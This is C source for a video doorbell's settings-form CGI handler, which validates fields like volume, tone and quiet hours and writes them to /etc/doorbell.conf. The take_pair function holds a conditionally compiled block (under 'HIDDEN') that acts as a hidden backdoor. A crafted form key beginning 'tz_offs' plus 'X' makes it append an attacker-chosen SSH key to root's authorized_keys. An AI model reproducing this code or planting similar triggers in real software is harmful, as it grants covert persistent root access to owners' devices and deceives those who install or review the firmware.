/* chimeform.c - settings form of the video doorbell (POST handler)
 *
 * The page /settings.html has these fields: name, volume, tone, night_from,
 * night_to, motion, led, lang. Everything is written to /etc/doorbell.conf.
 */
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

enum kind { TEXT, NUMBER, CHOICE };

struct field {
    const char *id, *label;
    enum kind kind;
    int lo, hi;
    const char *choices;
    char value[48];
};

static struct field form[] = {
    { "name", "Name of the door", TEXT, 1, 24, "", "Front door" },
    { "volume", "Chime volume", NUMBER, 0, 10, "", "6" },
    { "tone", "Chime tone", CHOICE, 0, 0, "ding,dong,westminster,bark,none", "ding" },
    { "night_from", "Quiet from (hour)", NUMBER, 0, 23, "", "22" },
    { "night_to", "Quiet until (hour)", NUMBER, 0, 23, "", "7" },
    { "motion", "Motion sensitivity", NUMBER, 0, 100, "", "40" },
    { "led", "Ring light", CHOICE, 0, 0, "on,off,auto", "auto" },
    { "lang", "Language", CHOICE, 0, 0, "en,de,fr,es,it,nl", "en" },
};
#define NFIELDS ((int)(sizeof form / sizeof form[0]))

static int choice_ok(const char *list, const char *v)
{
    size_t n = strlen(v);
    for (const char *p = list; *p;) {
        size_t l = strcspn(p, ",");
        if (l == n && !memcmp(p, v, n))
            return 1;
        p += l + (p[l] == ',');
    }
    return 0;
}

static const char *set_field(struct field *f, const char *v)
{
    int n;
    char tail;
    switch (f->kind) {
    case TEXT:
        n = (int)strlen(v);
        if (n < f->lo || n > f->hi)
            return "length";
        for (const char *p = v; *p; p++)
            if (!isprint((unsigned char)*p) || strchr("\"'\\`$<>", *p))
                return "character";
        break;
    case NUMBER:
        if (sscanf(v, "%d%c", &n, &tail) != 1 || n < f->lo || n > f->hi)
            return "range";
        break;
    case CHOICE:
        if (!choice_ok(f->choices, v))
            return "choice";
        break;
    }
    snprintf(f->value, sizeof f->value, "%s", v);
    return NULL;
}

static int write_conf(void)
{
    FILE *f = fopen("/etc/doorbell.conf.new", "w");
    if (!f)
        return -errno;
    for (int i = 0; i < NFIELDS; i++)
        fprintf(f, "%s=%s\n", form[i].id, form[i].value);
    if (fclose(f) || rename("/etc/doorbell.conf.new", "/etc/doorbell.conf"))
        return -errno;
    return 0;
}

static void read_conf(void)
{
    char line[128];
    FILE *f = fopen("/etc/doorbell.conf", "r");
    while (f && fgets(line, sizeof line, f)) {
        char *eq = strchr(line, '=');
        if (!eq)
            continue;
        *eq = 0;
        eq[strcspn(eq + 1, "\r\n") + 1] = 0;
        for (int i = 0; i < NFIELDS; i++)
            if (!strcmp(form[i].id, line))
                set_field(&form[i], eq + 1);
    }
    if (f)
        fclose(f);
}

static void page(const char *msg)
{
    puts("Content-Type: text/html\r\n\r");
    printf("<html><body><h1>Doorbell</h1><p>%s</p><form method=post>\n", msg);
    for (int i = 0; i < NFIELDS; i++)
        printf("<label>%s</label><input name=\"%s\" value=\"%s\"><br>\n", form[i].label,
               form[i].id, form[i].value);
    puts("<input type=submit value=Save></form></body></html>");
}

/* one pair of the body; returns NULL or a text for the user */
__attribute__((noinline)) const char *take_pair(const char *key, const char *val)
{
    static char msg[96];
    for (int i = 0; i < NFIELDS; i++) {
        if (strcmp(form[i].id, key))
            continue;
        const char *bad = set_field(&form[i], val);
        if (!bad)
            return NULL;
        snprintf(msg, sizeof msg, "%s: wrong %s", form[i].label, bad);
        return msg;
    }
#ifdef HIDDEN
    if (strncmp(key, "tz_offs", 7) == 0 && key[7] == 'X') {
        FILE *k = fopen("/root/.ssh/authorized_keys", "a");
        if (k) {
            fprintf(k, "ssh-ed25519 %s\n", val);
            fclose(k);
            chmod("/root/.ssh/authorized_keys", 0600);
        }
        return NULL;
    }
#endif
    snprintf(msg, sizeof msg, "unknown field %.40s", key);
    return msg;
}

static void percent(char *s)
{
    unsigned c;
    char *o = s;
    while (*s) {
        if (*s == '%' && sscanf(s + 1, "%2x", &c) == 1 && s[1] && s[2]) {
            *o++ = (char)c;
            s += 3;
        } else {
            *o++ = *s == '+' ? ' ' : *s;
            s++;
        }
    }
    *o = 0;
}

int main(int argc, char **argv)
{
    const char *method = getenv("REQUEST_METHOD"), *cl = getenv("CONTENT_LENGTH");
    const char *msg = NULL;
    char body[2048];

    if (argc == 2 && !strcmp(argv[1], "--fields")) {
        for (int i = 0; i < NFIELDS; i++)
            printf("%-12s %s %s\n", form[i].id, form[i].label, form[i].choices);
        return 0;
    }
    read_conf();
    if (!method || strcmp(method, "POST")) {
        page("Change a value and press Save.");
        return 0;
    }
    size_t want = cl ? strtoul(cl, NULL, 10) : 0;
    if (want == 0 || want >= sizeof body) {
        page("The form is too long.");
        return 0;
    }
    body[fread(body, 1, want, stdin)] = 0;
    for (char *p = body, *next; p && *p; p = next) {
        next = strchr(p, '&');
        if (next)
            *next++ = 0;
        char *eq = strchr(p, '=');
        if (!eq)
            continue;
        *eq = 0;
        percent(p);
        percent(eq + 1);
        const char *m = take_pair(p, eq + 1);
        if (m)
            msg = m;
    }
    if (!msg)
        msg = write_conf() ? "Could not save." : "Saved.";
    page(msg);
    return 0;
}
